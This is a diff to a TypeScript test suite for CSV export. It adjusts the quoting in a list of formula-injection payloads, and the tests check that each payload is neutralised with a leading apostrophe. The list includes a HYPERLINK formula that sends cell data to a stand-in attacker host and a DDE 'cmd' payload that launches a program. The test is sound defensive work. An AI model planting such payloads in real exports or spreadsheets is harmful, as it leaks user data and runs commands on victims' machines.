@@ -11,7 +11,7 @@ function run(id: string, name: string, values: Record<string, number>): RunRecor
   return { id, name, color: '#000', visible: true, config: { ...DEFAULT_CONFIG }, backend: 'webgpu', createdAt: 0, metrics: [{ iter: 0, values }] };
 }
 
-const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', '=cmd|\' /C calc\'!A0'];
+const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', "=cmd|' /C calc'!A0"];
 
 describe('CSV export: formula injection', () => {
   it.each(HOSTILE)('a run name %j reads back with a leading apostrophe, in one cell', (name) => {
